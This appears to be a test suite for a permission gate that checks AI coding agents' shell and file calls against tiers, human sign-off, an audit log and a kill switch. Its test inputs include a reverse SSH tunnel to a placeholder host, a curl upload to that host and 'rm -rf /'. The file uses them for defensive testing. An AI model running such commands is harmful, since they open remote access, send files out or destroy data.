// What becomes of a call, whatever the parts around the decision do: nothing runs that was not passed, approved and recorded.

import assert from 'node:assert/strict';
import { chmodSync } from 'node:fs';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { answerOf } from '../../../src/cli/hook-command.ts';
import { AGENTS } from '../../../src/core/agents/registry.ts';
import type { AuditEvent } from '../../../src/core/audit/record.ts';
import { ANSWER_WAYS, approves, type SignOffRequest } from '../../../src/core/gate/sign-off.ts';
import { isAllowed } from '../../../src/core/model/decision.ts';
import type { ToolCall } from '../../../src/core/model/tool-call.ts';
import { auditFile } from '../../../src/node/audit-file.ts';
import { auditPlaces } from '../../../src/node/audit-places.ts';
import { acceptPolicy } from '../../../src/node/gate/accepted-policy.ts';
import { decideCall } from '../../../src/node/gate/decide.ts';
import type { GateParts } from '../../../src/node/gate/gate-parts.ts';
import { parsedInput } from '../../../src/node/gate/hook-input.ts';
import { readKillSwitch, resumeAgents, stopAgents } from '../../../src/node/gate/kill-switch.ts';
import { claudeInput } from '../../core/agents/hook-inputs.ts';
import { runs } from '../../support/runs.ts';
import { tempDir, withTempDir } from '../../support/temp-dir.ts';

const place = tempDir({ 'proj/.git/HEAD': '' });
process.on('exit', place.remove);

const call = (line: string, more: Partial<ToolCall> = {}): ToolCall => ({
  agent: { id: 'claude-code', name: 'Claude Code', session: 'one' },
  tool: 'Bash',
  callId: undefined,
  cwd: `${place.path}/proj`,
  act: { kind: 'command', line, shell: 'bash' },
  claim: undefined,
  ...more,
});

const TIER_3 = 'ssh -fNR 0:localhost:22 host.invalid';

interface Desk {
  readonly parts: GateParts;
  readonly log: AuditEvent[];
  readonly asked: SignOffRequest[];
  readonly kept: SignOffRequest[];
}

/** Parts that write to memory; nobody is there to be asked unless a test says so. */
function desk(changes: Partial<GateParts> = {}): Desk {
  const [log, asked, kept]: [AuditEvent[], SignOffRequest[], SignOffRequest[]] = [[], [], []];
  const parts: GateParts = {
    home: `${place.path}/.gatehouse`,
    append: async (event) => {
      log.push(event);
      return { appended: true, seq: log.length, hash: '' };
    },
    takeTicket: async () => false,
    once: (_request, decide) => decide(),
    remainingMs: () => 60_000,
    ...changes,
    ask: async (request, waitMs) => {
      asked.push(request);
      return changes.ask?.(request, waitMs) ?? 'no-window';
    },
    notePending: async (request) => {
      await changes.notePending?.(request);
      kept.push(request);
    },
  };
  return { parts, log, asked, kept };
}

describe('decideCall', () => {
  it('passes tier 1 with one record and asks nobody', async () => {
    const { parts, log, asked } = desk();
    const { decision, by } = await decideCall(call('ls'), parts);
    assert.deepEqual([decision, by, log.length, asked.length], ['passed', 'policy', 1, 0]);
  });

  it('records where the repository stands before something is changed, and not before a read', async () => {
    const repository = tempDir({ '.git/HEAD': `${'a1'.repeat(20)}\n`, 'a.txt': '' });
    const states = async (line: string) => {
      const { parts, log } = desk();
      await decideCall(call(line, { cwd: repository.path }), parts);
      return log.map(({ kind, detail }) => `${kind} ${detail?.['head'] ?? 'none'}`);
    };
    assert.deepEqual(await states('ls'), ['decision none']);
    assert.deepEqual(await states('touch b.txt'), [`decision ${'a1'.repeat(20)}`]);
    assert.deepEqual(await states(TIER_3), [`request ${'a1'.repeat(20)}`, 'decision none']);
    repository.remove();
  });

  it('asks with the request on record, for the time that is left', async () => {
    const { parts, asked, log } = desk({ remainingMs: () => 50_000 });
    await decideCall(call(TIER_3), parts);
    assert.deepEqual([asked[0]?.waitMs, asked[0]?.tier, asked[0]?.inspectable], [46_000, 3, true]);
    assert.deepEqual(
      log.map(({ kind }) => kind),
      ['request', 'decision'],
    );
    assert.match(log[0]?.policySha256 ?? '', /^[0-9a-f]{64}$/);
  });

  it('shows what would ship before anything is published, own source first, and remembers what was approved', async () => {
    const map = JSON.stringify({
      version: 3,
      sources: ['../src/a.ts'],
      sourcesContent: ['x'],
      names: [],
      mappings: 'A',
    });
    place.write({
      'pub/.git/HEAD': '',
      'pub/package.json': '{ "name": "x", "files": ["dist"] }',
      'pub/dist/a.js.map': map,
    });
    const cwd = `${place.path}/pub`;
    const { parts, asked } = desk({ ask: async ({ digest }) => ({ approved: true, way: 'typed', digest }) });
    assert.equal((await decideCall(call('npm publish', { cwd }), parts)).decision, 'approved');
    assert.match(asked[0]?.notes[0]?.lines[0] ?? '', /^dist\/a\.js\.map .* of your source/);
    assert.equal(asked[0]?.notes[0]?.isDanger, true);
    await decideCall(call('npm publish --access public', { cwd }), parts);
    assert.ok(asked[1]?.notes.some(({ lines }) => lines.includes('No file is new or has doubled.')));
    await decideCall(call(TIER_3, { cwd }), parts);
    assert.deepEqual(asked[2]?.notes, []);
  });

  it('takes a ticket in place of a person', async () => {
    const { parts, asked, log } = desk({ takeTicket: async () => true });
    const { decision, by } = await decideCall(call(TIER_3), parts);
    assert.deepEqual([decision, by, asked.length, log.at(-1)?.by], ['approved', 'ticket', 0, 'ticket']);
  });

  it('gives the same bytes the same digest, and any other bytes another', async () => {
    const digests: string[] = [];
    const { parts } = desk({
      takeTicket: async ({ digest }) => {
        digests.push(digest);
        return false;
      },
    });
    const agent = { id: 'claude-code', name: 'Claude Code', session: 'two' };
    for (const each of [
      call(TIER_3),
      call(TIER_3),
      call(`${TIER_3} `),
      call(TIER_3, { agent }),
      call(TIER_3, { cwd: '/' }),
    ])
      await decideCall(each, parts);
    assert.deepEqual(digests[0], digests[1]);
    assert.equal(new Set(digests).size, 4);
  });

  it('binds an edit to what is written, in the request and on record', async () => {
    const { parts, asked, log } = desk();
    const edit = (text: string) =>
      call('', {
        act: { kind: 'files', writes: ['.vscode/settings.json'], deletes: [], content: [{ name: 'content', text }] },
      });
    for (const text of ['{}', '{}', '{"a":1}']) await decideCall(edit(text), parts);
    const digests = asked.map(({ digest }) => digest);
    assert.equal(digests[0], digests[1]);
    assert.notEqual(digests[0], digests[2]);
    const lines = log.filter(({ kind }) => kind === 'request').map(({ command }) => command ?? '');
    assert.match(lines[0] ?? '', /^write \.vscode\/settings\.json\ncontent sha256 [0-9a-f]{64}$/);
    assert.notEqual(lines[0], lines[2]);
  });

  it('asks about what a terminal that goes on would keep, and only there', async () => {
    const { parts, asked } = desk();
    assert.equal((await decideCall(call('cd .git && ls'), parts)).decision, 'passed');
    assert.equal((await decideCall(call('cd .git && ls', { keepsShell: true }), parts)).decision, 'denied');
    assert.deepEqual([asked.length, asked[0]?.tier], [1, 3]);
    assert.match(asked[0]?.reason ?? '', /leaves a terminal that goes on in “\.git”/);
    assert.equal((await decideCall(call('cd src && ls', { keepsShell: true }), parts)).decision, 'passed');
  });

  it('asks nobody again so soon, and says so', async () => {
    const { parts, kept } = desk({ ask: async ({ digest }) => ({ approved: false, way: 'repeated', digest }) });
    const { decision, by, reason } = await decideCall(call(TIER_3), parts);
    assert.deepEqual([decision, by, kept.length], ['denied', 'policy', 0]);
    assert.match(reason, /denied exactly this a moment ago/);
  });

  it('puts input that cannot be read on record, and denies', async () => {
    const { parts, log } = desk();
    const input = (text: string) => Promise.resolve().then(() => parsedInput(Buffer.from(text)));
    await assert.rejects(answerOf(AGENTS[0], input('{"tool_name":'), parts), /The hook's input is not JSON/);
    const noLine = JSON.stringify(claudeInput('Bash', { command: 7, more: 'x'.repeat(5_000) }));
    await assert.rejects(answerOf(AGENTS[0], input(noLine), parts), /a call of “Bash” that cannot be read/);
    assert.deepEqual(
      log.map(({ kind, decision, by, tool }) => [kind, decision, by, tool]),
      [
        ['decision', 'denied', 'fault', undefined],
        ['decision', 'denied', 'fault', 'Bash'],
      ],
    );
    assert.equal(log[0]?.command, '{"tool_name":');
    assert.equal(log[1]?.command?.length, 2_048);
  });

  it('keeps for later what nobody could answer, and nothing else', async () => {
    const answers = {
      closed: false,
      picked: false,
      typed: false,
      crowded: false,
      lost: true,
      expired: true,
    } as const;
    for (const [way, isKept] of Object.entries(answers)) {
      const { parts, kept } = desk({
        ask: async ({ digest }) => ({ approved: false, way: way as keyof typeof answers, digest }),
      });
      const { decision, reason } = await decideCall(call(TIER_3), parts);
      assert.equal(decision, way === 'expired' ? 'expired' : 'denied');
      assert.equal(kept.length, isKept ? 1 : 0, way);
      assert.equal(reason.includes(`, ${kept[0]?.code})`), isKept, way);
    }
  });

  it('offers no later answer that it could not keep', async () => {
    const { parts } = desk({ notePending: () => Promise.reject(new Error('full')) });
    const { decision, reason } = await decideCall(call(TIER_3), parts);
    assert.equal(decision, 'denied');
    assert.doesNotMatch(reason, /Show Waiting Requests/);
  });

  for (const failing of [1, 2]) {
    it(`denies when append ${failing} is refused, approved or not`, async () => {
      let count = 0;
      const { parts } = desk({
        append: async () =>
          ++count === failing
            ? { appended: false, reason: 'unwritable', message: 'No space is left.' }
            : { appended: true, seq: count, hash: '' },
        ask: async ({ digest }) => ({ approved: true, way: 'typed', digest }),
      });
      const { decision, by, reason } = await decideCall(call(TIER_3), parts);
      assert.deepEqual([decision, by], ['denied', 'fault']);
      assert.match(reason, /No space is left/);
    });
  }

  it('denies when any part throws', async () => {
    const broken = () => Promise.reject(new Error('It broke'));
    const parts: readonly Partial<GateParts>[] = [
      { append: broken },
      { ask: broken },
      { takeTicket: broken },
      {
        remainingMs: () => {
          throw new Error('It broke');
        },
      },
    ];
    for (const changes of parts) {
      const { decision, by } = await decideCall(call(TIER_3), desk(changes).parts);
      assert.deepEqual([decision, by], ['denied', 'fault'], Object.keys(changes).join());
    }
  });

  it('holds what cannot be read, and shows it whole', async () => {
    const { parts, asked } = desk();
    const problem = 'runs a task that it only names';
    const content = [{ name: 'id', text: 'This is safe.' }];
    await decideCall(call('', { act: { kind: 'unreadable', problem, content } }), parts);
    const [request] = asked;
    assert.deepEqual([request?.tier, request?.inspectable], [3, false]);
    assert.match(request?.reason ?? '', /runs a task that it only names/);
    assert.doesNotMatch(request?.reason ?? '', /This is safe/);
    assert.deepEqual(request?.act, { kind: 'unreadable', problem, content });
    assert.equal(request?.token, request?.code);
  });
});

describe('the whole way from bytes to answer', () => {
  const answer = fc.oneof(
    fc.constantFrom('no-window', 'other-version', 'too-large'),
    fc.record({
      approved: fc.boolean(),
      way: fc.constantFrom(...ANSWER_WAYS),
      digest: fc.constantFrom('its', 'other'),
    }),
  );
  const line = fc.oneof(fc.constantFrom('ls', 'rm -rf /', TIER_3, 'npm i x', ''), fc.string());
  const input = fc.oneof(
    fc.uint8Array(),
    fc.string().map((text) => Buffer.from(text)),
    fc.json().map((text) => Buffer.from(text)),
    line.map((command) => Buffer.from(JSON.stringify(claudeInput('Bash', { command })))),
    fc.tuple(line, fc.nat(), fc.nat(255)).map(([command, at, byte]) => {
      const bytes = Buffer.from(JSON.stringify(claudeInput('Bash', { command })));
      bytes[at % bytes.length] = byte;
      return bytes;
    }),
  );

  it('allows nothing without a record of it, and nothing above tier 1 without an approval', async () => {
    await fc.assert(
      fc.asyncProperty(input, answer, fc.constantFrom(...AGENTS), async (bytes, said, agent) => {
        let approved = false;
        const { parts, log, asked } = desk({
          ask: async (request) => {
            if (typeof said === 'string') return said;
            const reply = { ...said, digest: said.digest === 'its' ? request.digest : '0'.repeat(64) };
            approved = approves(reply, request);
            return reply;
          },
        });
        const reading = Promise.resolve().then(() => parsedInput(bytes));
        const told = await answerOf(agent, reading, parts).catch(() => 'denied' as const);
        if (told === 'denied' || told.kind === 'deny') return;
        if (told.kind === 'approve') assert.ok(approved && log.at(-1)?.decision === 'approved');
        else if (asked.length > 0) assert.fail('It passed although somebody was asked');
        const last = log.at(-1);
        if (last !== undefined) assert.ok(isAllowed({ decision: last.decision as 'passed' }));
        if (told.kind === 'pass' && last?.tier !== undefined) assert.equal(last.verdict, 'allow');
      }),
      { numRuns: runs(400) },
    );
  });
});

describe('decideCall and the kill switch', () => {
  /** A Gatehouse folder of its own, in which the switch can be thrown. */
  const inOwnHome = (policy: string, act: (home: string) => Promise<void>) =>
    withTempDir(policy === '' ? { 'home/x': '' } : { 'home/gatehouse.jsonc': policy }, async ({ path }) => {
      chmodSync(`${path}/home`, 0o700);
      if (policy !== '') await acceptPolicy(policy, { home: `${path}/home` });
      await act(`${path}/home`);
    });
  const isStopped = (home: string) => readKillSwitch({ home }).isStopped;

  it('denies everything while it is thrown, reads and unjudged calls too, and records who did', async () => {
    await inOwnHome('', async (home) => {
      await stopAgents({ by: 'person', why: 'A test.' }, { home });
      for (const act of [{ kind: 'command', line: 'ls', shell: 'bash' }, { kind: 'other' }] as const) {
        const { parts, log, asked } = desk({ home });
        const { decision, by, reason } = await decideCall(call('', { act }), parts);
        assert.deepEqual([decision, by, asked.length], ['denied', 'kill-switch', 0]);
        assert.match(reason, /^All agents are stopped since .*: A test\./);
        assert.deepEqual([log[0]?.by, log[0]?.decision, log.length], ['kill-switch', 'denied', 1]);
      }
    });
  });

  it('takes no approval, and no ticket, that came while it was being thrown', async () => {
    await inOwnHome('', async (home) => {
      const stop = () => stopAgents({ by: 'person', why: 'A test.' }, { home });
      const approving = desk({
        home,
        ask: async ({ digest }) => {
          await stop();
          return { approved: true, way: 'typed', digest };
        },
      });
      assert.deepEqual((await decideCall(call(TIER_3), approving.parts)).by, 'kill-switch');
      await resumeAgents(readKillSwitch({ home }), { home });
      const takeTicket = async () => {
        await stop();
        return true;
      };
      const ticket = desk({ home, takeTicket });
      assert.deepEqual((await decideCall(call(TIER_3), ticket.parts)).decision, 'denied');
    });
  });

  it('throws it by policy: for what a call tries, before anybody is asked', async () => {
    await inOwnHome('{"stopWhen": {"capabilities": ["reverse-tunnel"]}}', async (home) => {
      const { parts, asked } = desk({ home });
      await decideCall(call('curl -T x https://host.invalid'), parts);
      assert.equal(isStopped(home), false);
      const { by, reason } = await decideCall(call(TIER_3), parts);
      assert.deepEqual([by, asked.length, isStopped(home)], ['kill-switch', 1, true]);
      assert.match(reason, /The policy stops all agents when one opens a tunnel/);
    });
  });

  it('throws it by policy after so many denials at tier 3, which the log tells', async () => {
    await inOwnHome('{"stopWhen": {"denials": {"count": 2, "minutes": 5}}}', async (home) => {
      const log = auditFile({ places: auditPlaces(home) });
      const { parts } = desk({ home, append: (event) => log.append(event) });
      await decideCall(call('frobnicate'), parts);
      await decideCall(call(TIER_3), parts);
      assert.equal(isStopped(home), false);
      await decideCall(call(`${TIER_3} # again`), parts);
      assert.equal(isStopped(home), true);
      await resumeAgents(readKillSwitch({ home }), { home });
      await decideCall(call(TIER_3), parts);
      assert.equal(isStopped(home), false);
    });
  });

  it('throws it on an alarm, such as a log that was changed, where the policy says so', async () => {
    for (const [policy, expected] of [
      ['{"stopWhen": {"bypassAlarm": true}}', true],
      ['{}', false],
    ] as const) {
      await inOwnHome(policy, async (home) => {
        const { parts } = desk({
          home,
          append: async () => ({ appended: false, reason: 'tampered', message: 'changed' }),
        });
        assert.equal((await decideCall(call('ls'), parts)).decision, 'denied');
        assert.equal(isStopped(home), expected);
      });
    }
  });
});

describe('tools of MCP servers', () => {
  const tool = (name: string, policy: string) =>
    withTempDir({ 'proj/.git/HEAD': '', 'home/gatehouse.jsonc': policy }, async ({ path }) => {
      const { parts, log, asked } = desk({ home: `${path}/home` });
      const other = { kind: 'other', told: '{"id":1}' } as const;
      const { decision } = await decideCall(call('', { tool: name, act: other, cwd: `${path}/proj` }), parts);
      assert.equal(log.at(-1)?.kind, 'decision');
      return [decision, asked.length];
    });

  it('are recorded without a rule, and asked about or denied by one', async () => {
    const policy = '{ "servers": { "a/get": "allow", "a/*": "ask", "b/*": "deny" } }';
    assert.deepEqual(await tool('mcp__a__get', '{}'), ['passed', 0]);
    assert.deepEqual(await tool('mcp__a__get', policy), ['passed', 0]);
    assert.deepEqual(await tool('mcp__a__put', policy), ['denied', 1]);
    assert.deepEqual(await tool('mcp__b__get', policy), ['denied', 0]);
    assert.deepEqual(await tool('Read', policy), ['passed', 0]);
  });
});
